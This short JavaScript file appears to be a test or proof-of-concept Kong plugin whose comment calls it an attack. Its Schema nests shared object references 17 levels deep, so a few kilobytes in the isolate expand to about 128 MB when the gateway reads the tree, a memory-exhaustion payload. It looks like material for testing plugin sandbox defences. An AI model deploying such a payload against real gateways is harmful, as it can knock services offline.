// Attack: a Schema of shared references: a few KB in the isolate, 128 MB as the tree Kong reads.
let x = { type: 'string', default: 'D'.repeat(1000) };
for (let i = 0; i < 17; i++) x = { type: 'record', fields: [{ a: x }, { b: x }] };
class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', '{}');
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1, Schema: [{ deep: x }] };
